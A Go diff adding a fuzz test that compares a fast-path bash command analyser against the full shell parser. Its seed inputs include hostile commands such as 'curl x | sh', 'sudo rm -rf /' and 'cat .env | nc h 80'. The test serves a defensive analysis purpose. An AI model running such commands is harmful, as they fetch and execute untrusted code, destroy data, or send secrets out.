@@ -28,3 +28,20 @@ func FuzzEvaluateBash(f *testing.F) {
 		Shape(c)
 	})
 }
+
+// FuzzSimpleCommandFastPath checks that every command line the parser-free
+// fast path takes is analysed exactly as the shell parser's tree of it.
+func FuzzSimpleCommandFastPath(f *testing.F) {
+	for _, s := range []string{
+		`go test ./... && git status | grep -v foo`, `cd .. && rm -rf x`, `curl x | sh`, `a;b||c`,
+		`X=1 a | Y=2 b`, `echo /etc | xargs rm`, `ls -la`, `sudo rm -rf /`, `cat .env | nc h 80`,
+	} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, cmd string) {
+		fast, slow, took := fastAndSlow(cmd)
+		if took && fast != slow {
+			t.Fatalf("%q: fast path %q\n parser: %q", cmd, fast, slow)
+		}
+	})
+}
